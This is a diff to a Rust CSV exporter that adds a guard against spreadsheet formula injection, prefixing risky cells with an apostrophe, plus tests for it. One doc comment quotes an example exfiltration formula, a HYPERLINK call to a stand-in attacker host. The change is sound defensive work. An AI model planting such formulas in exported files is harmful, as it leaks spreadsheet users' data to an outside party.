@@ -1,5 +1,11 @@
 //! The checklist as CSV, one row per item, for spreadsheets. UTF-8 with a byte-order mark so
 //! that Excel reads non-ASCII text correctly.
+//!
+//! Spreadsheets evaluate a cell that starts with `=`, `+`, `-` or `@` as a formula (and strip a
+//! leading tab or carriage return before deciding), so spec text such as
+//! `=HYPERLINK("https://evil.example/?d="&A1)` would run in Excel or `LibreOffice`. Every cell is
+//! neutralised as OWASP recommends: such a cell gets a leading `'`, which spreadsheets show as
+//! text and hide.
 
 use crate::compile::checklist::{Checklist, Lead};
 
@@ -41,6 +47,15 @@ fn parties(leads: &[Lead]) -> String {
         .join("; ")
 }
 
+/// A cell as written: with a leading `'` when a spreadsheet would read it as a formula.
+fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
 /// Writes the checklist as CSV.
 pub fn checklist(checklist: &Checklist) -> Result<Vec<u8>, csv::Error> {
     let mut out = Vec::from("\u{feff}".as_bytes());
@@ -54,7 +69,7 @@ pub fn checklist(checklist: &Checklist) -> Result<Vec<u8>, csv::Error> {
                 .iter()
                 .map(|s| s.url.clone().unwrap_or_else(|| s.title.clone()))
                 .collect();
-            writer.write_record([
+            let record = [
                 item.id.as_str(),
                 item.reference.as_str(),
                 item.heading.as_deref().unwrap_or_default(),
@@ -95,9 +110,25 @@ pub fn checklist(checklist: &Checklist) -> Result<Vec<u8>, csv::Error> {
                     .collect::<Vec<_>>()
                     .join("; "),
                 &sources.join("; "),
-            ])?;
+            ];
+            writer.write_record(record.iter().map(|cell| neutralised(cell).into_owned()))?;
         }
         writer.flush()?;
     }
     Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::neutralised;
+
+    #[test]
+    fn formula_cells_get_a_quote() {
+        for cell in ["=1+1", "+SUM(A1)", "-1+1", "@SUM(A1)", "\t=1", "\r=1"] {
+            assert_eq!(neutralised(cell), format!("'{cell}"));
+        }
+        for cell in ["", "plain", "1-2", "a=b", "'quoted"] {
+            assert_eq!(neutralised(cell), cell);
+        }
+    }
 }
